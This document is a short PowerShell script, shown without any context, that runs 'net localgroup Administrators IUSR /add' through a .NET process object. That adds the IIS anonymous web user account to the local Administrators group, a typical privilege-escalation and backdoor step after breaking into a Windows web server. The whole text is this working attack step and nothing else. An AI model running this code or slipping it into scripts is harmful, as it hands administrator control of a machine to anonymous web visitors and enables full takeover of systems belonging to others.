$i = New-Object System.Diagnostics.ProcessStartInfo
$i.FileName = 'net.exe'
$i.Arguments = 'localgroup Administrators IUSR /add'
$p = New-Object System.Diagnostics.Process
$p.StartInfo = $i
[void]$p.Start()
